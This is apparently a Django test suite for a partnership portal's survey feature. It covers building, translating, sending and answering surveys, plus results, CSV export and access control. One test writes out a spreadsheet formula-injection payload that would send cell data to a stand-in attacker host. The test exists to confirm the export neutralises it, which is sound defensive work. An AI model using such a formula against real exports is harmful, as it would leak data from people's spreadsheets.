import csv
import datetime
import io

import pytest
from django.core import mail
from django.utils import timezone

from core.models import AuditEntry
from notifications.models import Notification
from outreach.models import Question, Recipient, Response, Survey
from outreach.services import surveys as services
from partners.models import Membership
from tests.factories import OrganisationFactory, member, staff
from tests.network_portal.machine_numbers import localised_machine_numbers, machine_numbers

pytestmark = pytest.mark.django_db
R = Membership.Role


@pytest.fixture
def world():
    school = OrganisationFactory(slug="school")
    return {
        "school": school,
        "coordinator": member(school, R.COORDINATOR, full_name="Kaisa Koordinaattori"),
        "company": OrganisationFactory(
            company=True, slug="virtanen", name_fi="Virtanen Oy", email="info@virtanen.example"
        ),
    }


def build(world, *, status="draft", closes_on=None):
    survey = Survey.objects.create(
        organisation=world["school"],
        created_by=world["coordinator"],
        title_en="Skill needs",
        status=status,
        closes_on=closes_on,
    )
    hire = Question.objects.create(
        survey=survey, position=0, kind="single", text_en="Will you hire?", required=True
    )
    for i, text in enumerate(["Yes", "No"]):
        hire.choices.create(position=i, text_en=text)
    forms = Question.objects.create(survey=survey, position=1, kind="multiple", text_en="Forms")
    for i, text in enumerate(["Workplace learning", "Apprenticeship", "Exchange"]):
        forms.choices.create(position=i, text_en=text)
    Question.objects.create(survey=survey, position=2, kind="scale", text_en="Ready?")
    Question.objects.create(survey=survey, position=3, kind="text", text_en="Skills needed")
    return survey


def send_to(survey, email="info@virtanen.example", company=None):
    recipient = Recipient.objects.create(survey=survey, email=email, company=company, language="en")
    return recipient, services.link_token(recipient)


def answer_data(survey, **changes):
    q = {question.kind: question for question in survey.questions.all()}
    single = list(q["single"].choices.all())
    multiple = list(q["multiple"].choices.all())
    data = {
        f"q{q['single'].pk}": single[0].pk,
        f"q{q['multiple'].pk}": [multiple[0].pk, multiple[2].pk],
        f"q{q['scale'].pk}": "4",
        f"q{q['text'].pk}": "Welding and safety",
    }
    data.update({f"q{q[kind].pk}": value for kind, value in changes.items()})
    return {key: value for key, value in data.items() if value is not None}


def test_a_coordinator_builds_a_survey_question_by_question(client, world):
    client.force_login(world["coordinator"])
    response = client.post(
        "/en/partners/surveys/new/",
        {"title": "Needs 2027", "intro": "Why we ask", "organisation": world["school"].pk},
    )
    survey = Survey.objects.get()
    assert response["Location"] == survey.get_absolute_url()
    assert survey.created_by == world["coordinator"] and survey.status == "draft"
    for data in [
        {"kind": "single", "text": "Will you hire?", "choice_lines": "Yes\nNo", "scale_max": 5},
        {"kind": "scale", "text": "Ready?", "scale_max": 7, "scale_min_label": "no"},
        {"kind": "text", "text": "Skills", "scale_max": 5},
    ]:
        client.post(
            f"/en/partners/surveys/{survey.pk}/",
            {f"question-{key}": value for key, value in data.items()},
        )
    questions = list(survey.questions.order_by("position"))
    assert [(q.position, q.kind) for q in questions] == [(0, "single"), (1, "scale"), (2, "text")]
    assert [c.text_en for c in questions[0].choices.all()] == ["Yes", "No"]
    assert questions[1].scale_max == 7
    client.post(
        f"/en/partners/surveys/{survey.pk}/questions/{questions[2].pk}/move/",
        {"direction": "up"},
    )
    assert list(survey.questions.order_by("position").values_list("kind", flat=True)) == [
        "single",
        "text",
        "scale",
    ]


def test_translating_the_choices_keeps_the_other_languages(client, world):
    survey = build(world)
    question = survey.questions.get(kind="single")
    client.force_login(world["coordinator"])
    client.post(
        f"/fi/partners/surveys/{survey.pk}/questions/{question.pk}/",
        {"kind": "single", "text": "Palkkaatteko?", "choice_lines": "Kyllä\nEi", "scale_max": 5},
    )
    question.refresh_from_db()
    assert (question.text_en, question.text_fi) == ("Will you hire?", "Palkkaatteko?")
    assert [(c.text_en, c.text_fi) for c in question.choices.all()] == [
        ("Yes", "Kyllä"),
        ("No", "Ei"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"kind": "single", "text": "Hire?", "choice_lines": "Yes"}, "at least two choices"),
        ({"kind": "multiple", "text": "Forms", "choice_lines": "A\na"}, "must be different"),
        ({"kind": "scale", "text": "Ready?", "scale_max": 11}, "less than or equal to 10"),
        ({"kind": "poll", "text": "Hm"}, "Select a valid choice"),
        ({"kind": "text", "text": ""}, "This field is required."),
    ],
)
def test_bad_questions_are_refused_with_the_input_kept(client, world, data, message):
    survey = build(world)
    data = {"scale_max": 5, "help": "Kept help text", **data}
    client.force_login(world["coordinator"])
    response = client.post(
        f"/en/partners/surveys/{survey.pk}/",
        {f"question-{key}": value for key, value in data.items()},
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert "Kept help text" in response.content.decode()
    assert survey.questions.count() == 4


def test_an_open_survey_cannot_be_changed_and_an_empty_one_cannot_open(client, world):
    client.force_login(world["coordinator"])
    empty = Survey.objects.create(organisation=world["school"], title_en="Empty")
    response = client.post(f"/en/partners/surveys/{empty.pk}/status/", {"to": "open"}, follow=True)
    assert "Add at least one question first." in response.content.decode()
    survey = build(world)
    client.post(f"/en/partners/surveys/{survey.pk}/status/", {"to": "open"})
    survey.refresh_from_db()
    assert survey.status == "open" and survey.opened_at is not None
    response = client.post(
        f"/en/partners/surveys/{survey.pk}/",
        {"question-kind": "text", "question-text": "Late", "question-scale_max": 5},
        follow=True,
    )
    assert "The questions are fixed" in response.content.decode()
    assert survey.questions.count() == 4
    response = client.post(
        f"/en/partners/surveys/{survey.pk}/status/", {"to": "draft"}, follow=True
    )
    assert "cannot be moved there" in response.content.decode()
    assert AuditEntry.objects.filter(action="partners.survey.opened").count() == 1


def test_links_go_to_companies_and_addresses_once_each(
    client, world, django_capture_on_commit_callbacks
):
    survey = build(world, status="open")
    quiet = OrganisationFactory(company=True, country="EE", name_fi="Vaikne OÜ")
    contact = member(quiet, R.COMPANY_CONTACT, language="et")
    client.force_login(world["coordinator"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/en/partners/surveys/{survey.pk}/send/",
            {
                "companies": [world["company"].pk, quiet.pk],
                "emails": "Someone@Example.org, info@virtanen.example",
            },
            follow=True,
        )
    assert "Links sent: 3." in response.content.decode()
    assert set(survey.recipients.values_list("email", "language")) == {
        (contact.email, "et"),
        ("info@virtanen.example", "fi"),
        ("someone@example.org", "en"),
    }
    assert len(mail.outbox) == 3
    estonian = next(m for m in mail.outbox if m.to == [contact.email])
    assert "/et/partners/surveys/answer/" in estonian.body
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/en/partners/surveys/{survey.pk}/send/",
            {"emails": "someone@example.org"},
            follow=True,
        )
    assert "Already had a link: someone@example.org." in response.content.decode()
    assert len(mail.outbox) == 3


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"emails": "not-an-address, ok@example.org"}, "not e-mail addresses: not-an-address"),
        ({}, "Choose at least one company or give an address."),
    ],
)
def test_bad_sending_input_sends_nothing(client, world, data, message):
    survey = build(world, status="open")
    client.force_login(world["coordinator"])
    response = client.post(f"/en/partners/surveys/{survey.pk}/send/", data)
    assert message in response.content.decode()
    assert not survey.recipients.exists() and not mail.outbox


def test_a_draft_survey_is_not_sent(world):
    survey = build(world)
    with pytest.raises(services.SurveyError):
        services.survey_send(actor=world["coordinator"], survey=survey, emails=["a@example.org"])


def test_a_company_answers_through_its_link_once(client, world, django_capture_on_commit_callbacks):
    survey = build(world, status="open")
    recipient, token = send_to(survey, company=world["company"])
    url = f"/en/partners/surveys/answer/{token}/"
    page = client.get(url)
    assert page.status_code == 200 and "Will you hire?" in page.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, answer_data(survey))
    assert "Thank you!" in response.content.decode()
    stored = Response.objects.get()
    assert stored.company == world["company"]
    answers = {a.question.kind: a for a in stored.answers.all()}
    assert [c.text_en for c in answers["multiple"].choices.all()] == [
        "Workplace learning",
        "Exchange",
    ]
    assert (answers["scale"].scale, answers["text"].text) == (4, "Welding and safety")
    recipient.refresh_from_db()
    assert recipient.responded_at is not None
    assert Notification.objects.filter(
        recipient=world["coordinator"], kind="partners.survey_response"
    ).exists()
    reused = client.post(url, answer_data(survey))
    assert reused.status_code == 410
    assert "already been used" in reused.content.decode()
    assert Response.objects.count() == 1


def test_a_missing_required_answer_keeps_what_was_written(client, world):
    survey = build(world, status="open")
    _recipient, token = send_to(survey)
    response = client.post(
        f"/en/partners/surveys/answer/{token}/", answer_data(survey, single=None)
    )
    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert "Welding and safety" in response.content.decode()
    assert not Response.objects.exists()


@pytest.mark.parametrize("how", ["closed", "past_last_day", "bad_token"])
def test_closed_surveys_and_bad_links_take_no_answers(client, world, how):
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    survey = build(
        world,
        status="closed" if how == "closed" else "open",
        closes_on=yesterday if how == "past_last_day" else None,
    )
    _recipient, token = send_to(survey)
    if how == "bad_token":
        token = token[:-2] + "xx"
    response = client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey))
    assert response.status_code == (404 if how == "bad_token" else 410)
    assert not Response.objects.exists()


def test_the_last_day_counts_in_finnish_time(world, settings):
    assert settings.TIME_ZONE == "Europe/Helsinki"
    survey = build(world, status="open", closes_on=datetime.date(2026, 11, 30))
    late_evening = datetime.datetime(2026, 11, 30, 21, 30, tzinfo=datetime.UTC)  # 23:30 Helsinki
    past_midnight = datetime.datetime(2026, 11, 30, 22, 30, tzinfo=datetime.UTC)  # 00:30
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(timezone, "now", lambda: late_evening)
        assert survey.takes_answers
        patch.setattr(timezone, "now", lambda: past_midnight)
        assert not survey.takes_answers


def test_results_sum_up_the_answers(client, world):
    survey = build(world, status="open")
    for n, (single, scale) in enumerate([("Yes", 4), ("No", 2), ("Yes", None)]):
        _recipient, token = send_to(survey, email=f"c{n}@example.org")
        q = {question.kind: question for question in survey.questions.all()}
        client.post(
            f"/en/partners/surveys/answer/{token}/",
            answer_data(
                survey,
                single=q["single"].choices.get(text_en=single).pk,
                scale=scale,
                text=f"Text {n}",
            ),
        )
    client.force_login(world["coordinator"])
    page = client.get(f"/en/partners/surveys/{survey.pk}/results/")
    rows = {row["question"].kind: row for row in page.context["rows"]}
    assert page.context["responses"] == 3
    assert [(c["choice"].text_en, c["count"], c["share"]) for c in rows["single"]["choices"]] == [
        ("Yes", 2, 67),
        ("No", 1, 33),
    ]
    assert rows["scale"]["answered"] == 2 and rows["scale"]["mean"] == 3
    assert [a.text for a in rows["text"]["texts"]] == ["Text 0", "Text 1", "Text 2"]
    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert table[0][3:] == ["Will you hire?", "Forms", "Ready?", "Skills needed"]
    assert table[1][2:] == [
        "c0@example.org",
        "Yes",
        "Workplace learning; Exchange",
        "4",
        "Text 0",
    ]


def test_an_answer_that_would_run_as_a_formula_reaches_the_csv_as_text(client, world):
    survey = build(world, status="open")
    _recipient, token = send_to(survey, company=world["company"])
    formula = '=HYPERLINK("https://attacker.example/?leak="&C2,"Open")'
    # Sent without an account, through the e-mailed link.
    client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey, text=formula))
    client.force_login(world["coordinator"])
    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert table[1][-1] == "'" + formula
    # The scale answer is still a plain number.
    assert table[1][-2] == "4"


def test_the_csv_gives_the_answering_time_in_finnish_time(client, world):
    survey = build(world, status="open")
    _recipient, token = send_to(survey)
    client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey))
    late = datetime.datetime(2026, 1, 31, 22, 30, tzinfo=datetime.UTC)  # 00:30 in Helsinki
    Response.objects.update(submitted_at=late)
    client.force_login(world["coordinator"])
    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert table[1][0] == "2026-02-01 00:30"


@pytest.mark.parametrize("language", ["fi", "sv", "ru"])
def test_result_bars_are_plain_numbers_and_the_mean_is_localised(client, world, language):
    survey = build(world, status="open")
    for n, scale in enumerate([4, 1]):
        _recipient, token = send_to(survey, email=f"c{n}@example.org")
        client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey, scale=scale))
    client.force_login(world["coordinator"])
    page = client.get(f"/{language}/partners/surveys/{survey.pk}/results/").content.decode()
    assert ("rect", "width", "100%") in machine_numbers(page)
    assert localised_machine_numbers(page) == []
    assert "2,5" in page  # the mean of 4 and 1, as people read it


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("coordinator", 200),
        ("advisor", 200),
        ("staff", 200),
        ("other_school_coordinator", 404),
        ("teacher", 404),
        ("company_contact", 404),
        ("anonymous", 302),
    ],
)
@pytest.mark.parametrize("page", ["", "results/", "edit/"])
def test_survey_pages_serve_the_organisations_advisors_and_coordinators(
    client, world, who, status, page
):
    survey = build(world)
    people = {
        "coordinator": world["coordinator"],
        "advisor": member(world["school"], R.ADVISOR),
        "staff": staff(),
        "other_school_coordinator": member(OrganisationFactory(), R.COORDINATOR),
        "teacher": member(world["school"], R.TEACHER),
        "company_contact": member(world["company"], R.COMPANY_CONTACT),
    }
    if who in people:
        client.force_login(people[who])
    assert client.get(f"/en/partners/surveys/{survey.pk}/{page}").status_code == status


@pytest.mark.parametrize("count", [5, 50])
def test_survey_list_query_count_is_fixed(client, world, count, django_assert_num_queries):
    for n in range(count):
        survey = Survey.objects.create(organisation=world["school"], title_en=f"S{n}")
        Recipient.objects.create(survey=survey, email=f"x{n}@example.org", language="fi")
    client.force_login(world["coordinator"])
    client.get("/en/partners/surveys/")
    # session, user, roles, the coordinator's second factor, surveys with counts (notices:
    # cache)
    with django_assert_num_queries(5):
        response = client.get("/en/partners/surveys/")
    assert len(response.context["surveys"]) == count


@pytest.mark.parametrize("count", [5, 50])
def test_results_query_count_is_fixed(client, world, count, django_assert_num_queries):
    survey = build(world, status="open")
    for n in range(count):
        _recipient, token = send_to(survey, email=f"c{n}@example.org")
        services.response_submit(
            token=token,
            answers={
                q: (
                    [q.choices.first()]
                    if q.kind == "multiple"
                    else q.choices.first()
                    if q.kind == "single"
                    else 3
                    if q.kind == "scale"
                    else "text"
                )
                for q in survey.questions.all()
            },
            language="en",
        )
    client.force_login(world["coordinator"])
    client.get(f"/en/partners/surveys/{survey.pk}/results/")
    # user, roles, the coordinator's second factor; the survey, its questions and choices;
    # responses; choice, scale and text answers; answers per question; links sent
    # and the session (notices: cache)
    with django_assert_num_queries(13):
        client.get(f"/en/partners/surveys/{survey.pk}/results/")
